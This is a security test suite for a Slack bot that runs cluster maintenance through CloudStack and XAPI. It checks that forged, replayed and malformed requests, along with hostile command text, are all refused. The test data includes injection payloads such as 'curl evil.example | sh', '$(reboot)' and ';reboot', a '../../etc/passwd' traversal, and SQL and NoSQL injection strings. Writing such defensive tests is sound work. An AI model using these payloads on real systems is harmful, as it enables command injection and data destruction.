/**
 * Hostile input through the real Bolt HTTP receiver, over real sockets: forged, tampered, replayed,
 * oversized and malformed requests, button clicks on unknown, finished or foreign runs and with
 * broken payloads, and command text full of Slack markup and shell metacharacters. Judged by what
 * the Slack test server was sent, what Redis holds, what was enqueued and what the lab's CloudStack
 * and XAPI saw: a refused request changes nothing anywhere.
 */
import { randomUUID } from 'node:crypto';
import { mkdtempSync } from 'node:fs';
import http from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Lab } from '../../lab/lab.js';
import { generatePoolSpec } from '../../lab/pool-generator.js';
import { RedisAuditLog } from '../../src/audit/audit-log.js';
import { loadBotConfig } from '../../src/bot-config.js';
import { loadConfig } from '../../src/config.js';
import { runPreflight } from '../../src/engine/preflight.js';
import { createLogger } from '../../src/log.js';
import type { RunQueue, RunRecord } from '../../src/queue/contracts.js';
import { createRedis, type Redis } from '../../src/queue/redis.js';
import { RedisRunStore } from '../../src/queue/run-store.js';
import { createEngineDeps } from '../../src/runtime.js';
import { createSlackApp, type PlanFunction, type SlackBot } from '../../src/slack/app.js';
import {
  failedMessage,
  hostMessage,
  needsAttentionMessage,
  noticeMessage,
  refusalMessage,
  usageMessage,
} from '../../src/slack/blocks.js';
import { FAST_ENGINE_ENV, startTestLab } from '../support/lab-cli.js';
import { startTestRedis, type TestRedis } from '../support/redis-server.js';
import { type SlackApiServer, startSlackApiServer } from '../support/slack-api-server.js';
import {
  blockActionsBody,
  SlackRequester,
  slackSignature,
  slashCommandBody,
} from '../support/slack-requests.js';

const TOKEN = 'xoxb-hostile-tests';
const SECRET = 'hostile-tests-signing-secret';
const OPS = 'COPS';
const REQUESTER = 'UREQ';
const APPROVER = 'UAPP';
/**
 * The hostile markup of these tests, live (unescaped): a broadcast, mentions, links. The bot's own
 * markup (`<@UREQ>` for the requester, `<!date^…>`) is not among them.
 */
const LIVE_MARKUP = /<!(?:channel|here|subteam)|<@U0ADMIN|<#C0123|<(?:https?|mailto):[^>]*evil/;
const HOSTILE_VM_NAMES = ['<!channel> *reboot now*', '<https://evil.example/x|click me> & `id`'];

let redisServer: TestRedis;
let redis: Redis;
let lab: Lab;
let labPlan: PlanFunction;
let testNumber = 0;

beforeAll(async () => {
  const spec = generatePoolSpec({ hosts: 3, vms: 6 });
  HOSTILE_VM_NAMES.forEach((name, i) => {
    const vm = spec.vms[i];
    if (vm) vm.name = name;
  });
  [redisServer, lab] = await Promise.all([startTestRedis(), startTestLab({ spec })]);
  redis = createRedis(redisServer.url, 'client');
  const stateDir = mkdtempSync(join(tmpdir(), 'crb-hostile-'));
  labPlan = async (request) => {
    const config = loadConfig({ ...lab.env(), ...FAST_ENGINE_ENV, STATE_DIR: stateDir });
    const result = await runPreflight(createEngineDeps(config, { emit: () => {} }), {
      cluster: request.cluster,
      exec: request.exec,
      threads: request.options.threads,
      ignoreHosts: request.options.ignoreHosts,
      restorePlacement: request.options.restorePlacement,
    });
    await result.connection?.close();
    return { ok: result.ok, findings: result.findings, ...(result.summary ? { plan: result.summary } : {}) };
  };
});

afterAll(async () => {
  redis?.disconnect();
  await Promise.all([redisServer?.stop(), lab?.stop()]);
});

// ---------------------------------------------------------------------------------------------
// Harness

interface Harness {
  bot: SlackBot;
  api: SlackApiServer;
  eventsUrl: string;
  slack: SlackRequester;
  runs: RedisRunStore;
  audit: RedisAuditLog;
  enqueued: string[];
  logs: string[];
  /** Resolves once a log line matching `pattern` was written. */
  logged(pattern: RegExp): Promise<void>;
  command(user: string, text: string, channel?: string): Promise<Answer>;
  click(user: string, actionId: string, run: RunRecord, overrides?: ClickOverrides): Promise<Answer>;
  /** A run request, waited for until its plan was posted. */
  requested(user: string, text: string): Promise<RunRecord>;
}

interface ClickOverrides {
  value?: string;
  messageTs?: string;
  channel?: string;
  teamId?: string;
}

interface Answer {
  status: number;
  json?: Record<string, unknown>;
  text: string;
  /** The ephemeral answers sent to this request's response_url so far. */
  responses(): Array<Record<string, unknown>>;
}

let harness: Harness | undefined;
afterEach(async () => {
  await harness?.bot.stop(1_000);
  await harness?.api.close();
  harness = undefined;
});

async function start(plan: PlanFunction = fixedPlan): Promise<Harness> {
  testNumber += 1;
  const prefix = `${redisServer.prefix}-${testNumber}`;
  const api = await startSlackApiServer({ token: TOKEN });
  const config = loadBotConfig({
    SLACK_BOT_TOKEN: TOKEN,
    SLACK_SIGNING_SECRET: SECRET,
    SLACK_API_URL: api.apiUrl,
    REQUESTER_USER_IDS: REQUESTER,
    APPROVER_USER_IDS: APPROVER,
    ALLOWED_CHANNEL_IDS: OPS,
    APPROVAL_TTL_SECONDS: '900',
    SLACK_RETRY_SECONDS: '5',
  });
  const logs: string[] = [];
  const listeners = new Set<() => void>();
  const sink = new Writable({
    write(chunk, _encoding, done) {
      logs.push(String(chunk));
      for (const listener of listeners) listener();
      done();
    },
  });
  const runs = new RedisRunStore(redis, prefix);
  const audit = new RedisAuditLog(redis, prefix);
  const enqueued: string[] = [];
  const queue: RunQueue = {
    enqueue: async (runId) => {
      enqueued.push(runId);
    },
    close: async () => {},
  };
  const bot = createSlackApp({
    config,
    runStore: runs,
    audit,
    queue,
    plan,
    clearCheckpoint: async () => {},
    logger: createLogger({ level: 'debug' }, sink),
    listen: { port: 0, host: '127.0.0.1' },
    minSlackIntervalMs: 10,
    sweepIntervalMs: 60_000,
  });
  const { port } = await bot.start();
  const eventsUrl = `http://127.0.0.1:${port}/slack/events`;
  const slack = new SlackRequester(eventsUrl, SECRET);
  let requestNumber = 0;
  const answered = async (
    responseId: string,
    sent: Promise<{ status: number; text: string; json?: Record<string, unknown> }>,
  ) => {
    const { status, text, json } = await sent;
    return {
      status,
      text,
      ...(json ? { json } : {}),
      responses: () => api.responses(responseId).map((r) => r.body),
    };
  };
  const h: Harness = {
    bot,
    api,
    eventsUrl,
    slack,
    runs,
    audit,
    enqueued,
    logs,
    logged: (pattern) =>
      new Promise<void>((resolve, reject) => {
        const check = () => {
          if (!logs.some((line) => pattern.test(line))) return;
          listeners.delete(check);
          clearTimeout(timer);
          resolve();
        };
        const timer = setTimeout(() => {
          listeners.delete(check);
          reject(new Error(`no log line matching ${pattern} within 10 s`));
        }, 10_000);
        listeners.add(check);
        check();
      }),
    command: (user, text, channel = OPS) => {
      requestNumber += 1;
      const responseId = `cmd${requestNumber}`;
      return answered(
        responseId,
        slack.command({ text, userId: user, channelId: channel, responseUrl: api.responseUrl(responseId) }),
      );
    },
    click: (user, actionId, run, overrides = {}) => {
      requestNumber += 1;
      const responseId = `click${requestNumber}`;
      return answered(
        responseId,
        slack.click({
          actionId,
          value: overrides.value ?? run.runId,
          userId: user,
          channelId: overrides.channel ?? run.channel,
          messageTs: overrides.messageTs ?? (run.messageTs as string),
          responseUrl: api.responseUrl(responseId),
          ...(overrides.teamId ? { teamId: overrides.teamId } : {}),
        }),
      );
    },
    requested: async (user, text) => {
      const before = new Set((await runs.listRecent({ limit: 100 })).map((r) => r.runId));
      const answer = await h.command(user, text);
      expect(answer.status).toBe(200);
      await api.waitFor(() =>
        answer.responses().some((r) => r.replace_original === true && !/^Checking/.test(String(r.text))),
      );
      const run = (await runs.listRecent({ limit: 100 })).find((r) => !before.has(r.runId));
      if (!run) throw new Error('no run was stored');
      return run;
    },
  };
  harness = h;
  return h;
}

/** A fixed plan, for tests where the pre-flight does not matter. */
const fixedPlan: PlanFunction = async (request) => ({
  ok: true,
  findings: [],
  plan: {
    cluster: request.cluster,
    hosts: [
      { host: 'xs-1', master: true, vms: 1, migrations: [{ vm: 'web-1', to: 'xs-2', memory: 2 ** 31 }] },
      { host: 'xs-2', master: false, vms: 1, migrations: [{ vm: 'db-1', to: 'xs-1', memory: 2 ** 31 }] },
    ],
    totalMigrations: 2,
    optimalMigrations: 2,
    memoryMoved: 2 ** 32,
    estimatedSeconds: 600,
  },
});

/** Everything a request could have changed. */
async function snapshot(h: Harness) {
  await h.bot.writer.flush(2_000);
  const runs = await h.runs.listRecent({ limit: 100 });
  return {
    slackCalls: h.api.calls().map((call) => call.method),
    responses: h.api.responses().length,
    runs: runs.map((r) => `${r.runId} ${r.state} ${r.approvedBy ?? '-'} ${r.abortRequestedBy ?? '-'}`),
    abortFlags: await Promise.all(runs.map((r) => h.runs.isAbortRequested(r.runId))),
    audit: (await h.audit.list()).map((entry) => entry.action),
    enqueued: [...h.enqueued],
    labCalls: labCalls().length,
  };
}

function labCalls() {
  return lab.log.entries().filter((op) => ['cloudstack.call', 'xapi.call', 'xapi.login'].includes(op.kind));
}

interface RawRequest {
  body: string;
  contentType?: string;
  headers?: Record<string, string>;
  /** Sign the body with the right secret, now (default true). */
  sign?: boolean;
}

/**
 * Posts to the receiver with node:http rather than fetch: an early answer (413 while the body is
 * still being sent) is read at once, and the rest of the upload dropped.
 */
function post(h: Harness, request: RawRequest): Promise<{ status: number; text: string }> {
  const timestamp = Math.floor(Date.now() / 1000);
  const headers: Record<string, string> = {
    'content-type': request.contentType ?? 'application/x-www-form-urlencoded',
    'content-length': String(Buffer.byteLength(request.body)),
    ...(request.sign === false
      ? {}
      : {
          'x-slack-request-timestamp': String(timestamp),
          'x-slack-signature': slackSignature(SECRET, timestamp, request.body),
        }),
    ...request.headers,
  };
  const url = new URL(h.eventsUrl);
  return new Promise((resolve, reject) => {
    let answered = false;
    const outgoing = http.request(
      {
        host: url.hostname,
        port: url.port,
        path: url.pathname,
        method: 'POST',
        headers,
        timeout: 10_000,
        // A connection per request: one the server gave up on (413) must not carry the next.
        agent: false,
      },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => {
          answered = true;
          resolve({ status: response.statusCode ?? 0, text: Buffer.concat(chunks).toString('utf8') });
          outgoing.destroy();
        });
      },
    );
    outgoing.on('timeout', () => outgoing.destroy(new Error('no answer within 10 s')));
    outgoing.on('error', (error) => {
      if (!answered) reject(error);
    });
    outgoing.end(request.body);
  });
}

function commandBody(text: string, extra: Record<string, string> = {}): string {
  const body = new URLSearchParams(
    slashCommandBody({ text, userId: REQUESTER, channelId: OPS, responseUrl: 'http://127.0.0.1:9/x' }),
  );
  for (const [name, value] of Object.entries(extra)) body.set(name, value);
  return body.toString();
}

/** A block_actions payload for `run`'s message, changed by `edit` (which may delete anything). */
function clickPayload(
  h: Harness,
  run: RunRecord,
  responseId: string | undefined,
  edit: (payload: Record<string, unknown>, action: Record<string, unknown>) => void,
): string {
  const body = blockActionsBody({
    actionId: 'approve',
    value: run.runId,
    userId: APPROVER,
    channelId: run.channel,
    messageTs: run.messageTs as string,
    responseUrl: h.api.responseUrl(responseId ?? 'unused'),
  });
  const payload = JSON.parse(new URLSearchParams(body).get('payload') as string) as Record<string, unknown>;
  if (responseId === undefined) delete payload.response_url;
  const action = (payload.actions as Array<Record<string, unknown>>)[0] as Record<string, unknown>;
  edit(payload, action);
  return new URLSearchParams({ payload: JSON.stringify(payload) }).toString();
}

function text(value: unknown): string {
  return JSON.stringify(value ?? '');
}

// ---------------------------------------------------------------------------------------------

describe('requests that Slack did not sign, or signed long ago', () => {
  it('forged, tampered, replayed and half-signed requests get 401 and change nothing', async () => {
    const h = await start();
    const run = await h.requested(REQUESTER, 'CLUSTER-1 --exec');
    const before = await snapshot(h);

    const command = commandBody('CLUSTER-2 --exec');
    const approve = clickPayload(h, run, 'forged', () => {});
    const now = Math.floor(Date.now() / 1000);
    const signed = (body: string, timestamp: number, secret = SECRET) => ({
      'x-slack-request-timestamp': String(timestamp),
      'x-slack-signature': slackSignature(secret, timestamp, body),
    });
    const attempts: Array<[string, RawRequest]> = [
      [
        'signed with another secret',
        { body: approve, sign: false, headers: signed(approve, now, 'guessed-secret') },
      ],
      [
        'a command signed with another secret',
        { body: command, sign: false, headers: signed(command, now, 'x') },
      ],
      [
        'a body changed after signing',
        { body: approve.replace(APPROVER, REQUESTER), sign: false, headers: signed(approve, now) },
      ],
      [
        'a dry run turned into --exec',
        {
          body: commandBody('CLUSTER-2 --exec'),
          sign: false,
          headers: signed(commandBody('CLUSTER-2'), now),
        },
      ],
      ['a replay from six minutes ago', { body: approve, sign: false, headers: signed(approve, now - 360) }],
      [
        'a replay with a fresh timestamp',
        {
          body: approve,
          sign: false,
          headers: { ...signed(approve, now - 360), 'x-slack-request-timestamp': String(now) },
        },
      ],
      ['no signature', { body: approve, sign: false, headers: { 'x-slack-request-timestamp': String(now) } }],
      [
        'no timestamp',
        {
          body: approve,
          sign: false,
          headers: { 'x-slack-signature': signed(approve, now)['x-slack-signature'] },
        },
      ],
      [
        'a timestamp that is not a number',
        {
          body: approve,
          sign: false,
          headers: { ...signed(approve, now), 'x-slack-request-timestamp': 'now' },
        },
      ],
      [
        'an unknown signature version',
        {
          body: approve,
          sign: false,
          headers: {
            ...signed(approve, now),
            'x-slack-signature': signed(approve, now)['x-slack-signature'].replace('v0=', 'v1='),
          },
        },
      ],
      [
        'an empty signature',
        {
          body: approve,
          sign: false,
          headers: { 'x-slack-request-timestamp': String(now), 'x-slack-signature': 'v0=' },
        },
      ],
      [
        'an unsigned url_verification',
        {
          body: JSON.stringify({ type: 'url_verification', challenge: 'c' }),
          contentType: 'application/json',
          sign: false,
        },
      ],
    ];
    for (const [name, attempt] of attempts) {
      const answer = await post(h, attempt);
      expect(answer.status, name).toBe(401);
      expect(answer.text, name).toBe('');
    }

    expect(await snapshot(h)).toEqual(before);
    expect((await h.runs.get(run.runId))?.state).toBe('awaiting_approval');
  });

  it('an unsigned ssl_check cannot smuggle a command in', async () => {
    const h = await start();
    const before = await snapshot(h);
    const smuggled = `ssl_check=1&${commandBody('CLUSTER-1 --exec')}`;
    const answer = await post(h, { body: smuggled, sign: false });
    expect(answer).toEqual({ status: 200, text: '' });
    expect(await snapshot(h)).toEqual(before);
  });

  it('oversized requests get 413 before anything reads them, signed or not', async () => {
    const h = await start();
    const before = await snapshot(h);
    const huge = commandBody(`CLUSTER-1 --exec ${'x'.repeat(5 * 2 ** 20)}`);
    expect((await post(h, { body: huge })).status).toBe(413);
    expect((await post(h, { body: huge, sign: false })).status).toBe(413);
    expect(await snapshot(h)).toEqual(before);
  });

  it('signed but malformed bodies are refused and change nothing', async () => {
    const h = await start();
    const run = await h.requested(REQUESTER, 'CLUSTER-1 --exec');
    const before = await snapshot(h);
    const refused: Array<[string, RawRequest]> = [
      ['a payload that is not JSON', { body: 'payload=%7Bnot%20json' }],
      ['a JSON body that is not JSON', { body: '{"type":', contentType: 'application/json' }],
      ['a text body', { body: 'approve the run please', contentType: 'text/plain' }],
      [
        'a payload without actions',
        { body: clickPayload(h, run, 'no-actions', (payload) => delete payload.actions) },
      ],
      [
        'a payload with an empty action list',
        {
          body: clickPayload(h, run, 'empty-actions', (payload) => {
            payload.actions = [];
          }),
        },
      ],
      ['a command whose text is given twice', { body: `${commandBody('CLUSTER-1')}&text=CLUSTER-2+--exec` }],
    ];
    // At once: the ones no listener takes end with Bolt's 404 after its 3 s ack timeout.
    const answers = await Promise.all(refused.map(([, request]) => post(h, request)));
    for (const [i, [name]] of refused.entries()) expect(answers[i]?.status, name).toBeGreaterThanOrEqual(400);
    expect(await snapshot(h)).toEqual(before);
    expect(h.api.responses('no-actions')).toEqual([]);
  });
});

describe('button clicks that do not belong to a run', () => {
  it('refuses unknown and odd values, whatever their type, and changes nothing', async () => {
    const h = await start();
    const run = await h.requested(REQUESTER, 'CLUSTER-1 --exec');
    const before = await snapshot(h);
    const values: unknown[] = [
      randomUUID(),
      'no-such-run',
      '',
      '*',
      '../../etc/passwd',
      `${run.runId}\n`,
      `${run.runId} `,
      `${run.runId}*`,
      run.runId.toUpperCase(),
      'a'.repeat(5_000),
      '{"$ne":null}',
      12_345,
      [run.runId],
      { runId: run.runId },
      null,
    ];
    const answers = await Promise.all(
      values.map((value, i) =>
        post(h, {
          body: clickPayload(h, run, `value${i}`, (_payload, action) => {
            action.value = value;
          }),
        }),
      ),
    );
    expect(answers.map((a) => a.status)).toEqual(values.map(() => 200));
    await h.api.waitFor(() => values.every((_, i) => h.api.responses(`value${i}`).length > 0));
    for (const [i, value] of values.entries()) {
      const [reply] = h.api.responses(`value${i}`);
      expect(String(reply?.body.text), text(value)).toContain('does not belong to any run');
      expect(reply?.body).toMatchObject({ response_type: 'ephemeral', replace_original: false });
    }
    const after = await snapshot(h);
    expect(after.audit.slice(before.audit.length)).toEqual(values.map(() => 'approve_refused'));
    expect({ ...after, audit: before.audit, responses: before.responses }).toEqual(before);
  });

  it('refuses or ignores broken payloads: no user, no message, no response_url, unknown action', async () => {
    const h = await start();
    const run = await h.requested(REQUESTER, 'CLUSTER-1 --exec');
    const before = await snapshot(h);
    const noUser = await post(h, { body: clickPayload(h, run, 'no-user', (payload) => delete payload.user) });
    const noMessage = await post(h, {
      body: clickPayload(h, run, 'no-message', (payload) => {
        delete payload.container;
        delete payload.channel;
        delete payload.message;
      }),
    });
    const noValue = await post(h, {
      body: clickPayload(h, run, 'select', (_payload, action) => {
        action.type = 'static_select';
        delete action.value;
        action.selected_option = { value: run.runId, text: { type: 'plain_text', text: 'x' } };
      }),
    });
    const noResponseUrl = await post(h, {
      body: clickPayload(h, run, undefined, (_payload, action) => {
        action.value = 'no-such-run';
      }),
    });
    const unknownAction = await post(h, {
      body: clickPayload(h, run, 'unknown-action', (_payload, action) => {
        action.action_id = 'approve_all';
      }),
    });
    // Without a user Bolt cannot build the request's context: 500, and no listener runs.
    expect([noUser.status, noMessage.status, noValue.status, noResponseUrl.status]).toEqual([
      500, 200, 200, 200,
    ]);
    // No listener takes an action id the bot never posts: Bolt answers 404 after its 3 s ack timeout.
    expect(unknownAction.status).toBe(404);

    await h.api.waitFor(() => ['no-message', 'select'].every((id) => h.api.responses(id).length > 0));
    expect(String(h.api.responses('no-message')[0]?.body.text)).toContain(
      "does not belong to that run's message",
    );
    expect(String(h.api.responses('select')[0]?.body.text)).toContain('does not belong to any run');
    await h.logged(/could not answer through response_url/);
    expect(h.api.responses('unknown-action')).toEqual([]);
    expect(h.api.responses('no-user')).toEqual([]);

    const after = await snapshot(h);
    expect(after.audit.slice(before.audit.length).every((a) => a === 'approve_refused')).toBe(true);
    expect({ ...after, audit: before.audit, responses: before.responses }).toEqual(before);
    expect((await h.runs.get(run.runId))?.state).toBe('awaiting_approval');
  });

  it("refuses a run's id on another run's message, in another channel, or from another workspace", async () => {
    const h = await start();
    const first = await h.requested(REQUESTER, 'CLUSTER-1 --exec');
    const second = await h.requested(REQUESTER, 'CLUSTER-2 --exec');
    const before = await snapshot(h);
    const clicks = await Promise.all([
      h.click(APPROVER, 'approve', first, { messageTs: second.messageTs as string }),
      h.click(APPROVER, 'approve', first, { channel: 'COTHER' }),
      h.click(APPROVER, 'cancel', second, { messageTs: first.messageTs as string }),
      h.click('UOTHERWORKSPACE', 'approve', first, { teamId: 'T2' }),
    ]);
    await h.api.waitFor(() => clicks.every((c) => c.responses().length > 0));
    const replies = clicks.map((c) => String(c.responses()[0]?.text));
    expect(replies.slice(0, 3).every((r) => r.includes("does not belong to that run's message"))).toBe(true);
    expect(replies[3]).toContain('not on the list of people who may approve');
    const after = await snapshot(h);
    expect({ ...after, audit: before.audit, responses: before.responses }).toEqual(before);
  });

  it('refuses every button of cancelled, dry and finished runs', async () => {
    const h = await start();
    const cancelled = await h.requested(REQUESTER, 'CLUSTER-1 --exec');
    await h.click(REQUESTER, 'cancel', cancelled);
    await expect.poll(async () => (await h.runs.get(cancelled.runId))?.state).toBe('cancelled');
    const dry = await h.requested(REQUESTER, 'CLUSTER-2');
    const done = await h.requested(REQUESTER, 'CLUSTER-3 --exec');
    await h.click(APPROVER, 'approve', done);
    await h.api.waitFor(() => h.enqueued.length === 1);
    // The worker's part: the run started and finished.
    expect((await h.runs.transition(done.runId, ['approved'], 'running')).ok).toBe(true);
    expect((await h.runs.transition(done.runId, ['running'], 'done')).ok).toBe(true);
    const before = await snapshot(h);

    const buttons = ['approve', 'cancel', 'abort', 'continue', 'resume', 'finish'];
    const clicks = await Promise.all(
      [cancelled, dry, done].flatMap((run) => buttons.map((button) => h.click(APPROVER, button, run))),
    );
    expect(clicks.every((c) => c.status === 200)).toBe(true);
    await h.api.waitFor(() => clicks.every((c) => c.responses().length > 0));
    for (const click of clicks) expect(click.responses()[0]).toMatchObject({ response_type: 'ephemeral' });

    const after = await snapshot(h);
    expect(after.audit.length - before.audit.length).toBe(clicks.length);
    expect({ ...after, audit: before.audit, responses: before.responses }).toEqual(before);
    expect(
      await Promise.all([cancelled, dry, done].map(async (r) => (await h.runs.get(r.runId))?.state)),
    ).toEqual(['cancelled', 'dry_run', 'done']);
  });

  it('a replayed approval (the same signed request again) queues nothing more', async () => {
    const h = await start();
    const run = await h.requested(REQUESTER, 'CLUSTER-1 --exec');
    const body = clickPayload(h, run, 'approval', () => {});
    const timestamp = Math.floor(Date.now() / 1000);
    // Byte for byte the same request: body, timestamp and signature.
    const request: RawRequest = {
      body,
      sign: false,
      headers: {
        'x-slack-request-timestamp': String(timestamp),
        'x-slack-signature': slackSignature(SECRET, timestamp, body),
      },
    };
    expect((await post(h, request)).status).toBe(200);
    await h.api.waitFor(() => h.enqueued.length === 1);
    await h.bot.writer.flush(2_000);
    const before = await snapshot(h);
    expect((await post(h, request)).status).toBe(200);
    await h.api.waitFor(() => h.api.responses('approval').length > 0);
    expect(String(h.api.responses('approval')[0]?.body.text)).toContain('Already approved');
    const after = await snapshot(h);
    expect(after.audit.slice(before.audit.length)).toEqual(['approve_refused']);
    expect({ ...after, audit: before.audit, responses: before.responses }).toEqual(before);
  });
});

describe('command text with Slack markup and shell metacharacters', () => {
  const hostile = [
    '<@U0ADMIN> CLUSTER-1 --exec',
    '<@U0ADMIN|admin>',
    '<!channel> CLUSTER-1',
    '<!here|here>',
    '<!subteam^S0123|oncall> CLUSTER-1',
    '<#C0123|ops>',
    '<https://evil.example/x|CLUSTER-1>',
    '<mailto:a@evil.example|CLUSTER-1>',
    'CLUSTER-1;reboot',
    'CLUSTER-1 ; reboot',
    'CLUSTER-1 && curl evil.example | sh',
    'CLUSTER-1 &amp;&amp; reboot',
    '$(reboot)',
    '`reboot`',
    "CLUSTER-1' OR '1'='1",
    'CLUSTER-1 --ignore-hosts "host1;reboot"',
    'CLUSTER-1 --ignore-hosts host1,$(id)',
    'CLUSTER-1 --ignore-hosts <@U0ADMIN>',
    'CLUSTER-1 --pre-empty-hook drain;reboot',
    'CLUSTER-1 --post-empty-hook ../../bin/sh',
    'CLUSTER-1 --threads 5;reboot',
    'CLUSTER-1\u0000',
    'CLUSTER-1%0Areboot',
    '*CLUSTER-1*',
    'CLUSTER-1 --exec &gt; /dev/null',
    'status <!channel>',
    'status CLUSTER-1|x',
    `CLUSTER-1 ${'<!channel>'.repeat(10_000)}`,
  ];

  it('is refused in the ack, with the text escaped, and reaches no API', async () => {
    const h = await start(labPlan);
    const before = await snapshot(h);
    for (const command of hostile) {
      const answer = await h.command(REQUESTER, command);
      expect(answer.status, command).toBe(200);
      expect(answer.json?.response_type, command).toBe('ephemeral');
      expect(String(answer.json?.text), command).toMatch(/^Invalid command: /);
      expect(answer.text, command).not.toMatch(LIVE_MARKUP);
      if (command.length < 100 && /<[@!]/.test(command)) expect(answer.text, command).toContain('&lt;');
    }
    expect(await snapshot(h)).toEqual(before);
    expect(h.api.calls()).toEqual([]);
  });

  it('a valid command reaches CloudStack with exactly the cluster name; hostile VM names come back escaped', async () => {
    const h = await start(labPlan);
    const before = labCalls().length;
    const run = await h.requested(REQUESTER, 'CLUSTER-1 --threads 2');
    expect(run.state).toBe('dry_run');
    const calls = labCalls().slice(before);
    const cloudstack = calls.filter((op) => op.kind === 'cloudstack.call');
    expect(cloudstack.length).toBeGreaterThan(0);
    expect(calls.some((op) => op.kind === 'xapi.call')).toBe(true);
    const listClusters = cloudstack.find((op) => op.detail?.command === 'listClusters');
    expect((listClusters?.detail?.params as Record<string, string> | undefined)?.name).toBe('CLUSTER-1');
    for (const op of cloudstack) {
      for (const value of Object.values((op.detail?.params ?? {}) as Record<string, string>)) {
        expect(value).toMatch(/^[A-Za-z0-9._:-]*$/);
      }
    }

    await h.bot.writer.flush(2_000);
    const sent = JSON.stringify([
      ...h.api.calls().map((c) => c.body),
      ...h.api.responses().map((r) => r.body),
    ]);
    expect(sent).not.toMatch(LIVE_MARKUP);
    expect(sent).toContain('&lt;!channel&gt; *reboot now*');
    expect(sent).toContain('&lt;https://evil.example/x|click me&gt; &amp; `id`');
  });
});

describe('names from XAPI in the notification text', () => {
  it('are escaped there too: Slack notifies mentions in `text`, not only in blocks', () => {
    const name = '<!channel> <@U0ADMIN> <https://evil.example|x>';
    const at = new Date().toISOString();
    const messages = [
      hostMessage({
        host: name,
        index: 1,
        total: 2,
        vms: 1,
        startedAt: at,
        status: 'in_progress',
        steps: [],
      }),
      failedMessage({ type: 'failed', at, reason: `${name} failed`, error: [name], leftChanged: [] }),
      needsAttentionMessage({ type: 'needs_attention', at, host: name, reason: name, leftChanged: [] }),
      noticeMessage(':warning:', name),
      usageMessage(`${name} is not a cluster name`),
      refusalMessage(name),
    ];
    for (const message of messages) {
      expect(JSON.stringify(message)).not.toMatch(LIVE_MARKUP);
      expect(message.text).toContain('&lt;!channel&gt;');
    }
  });
});
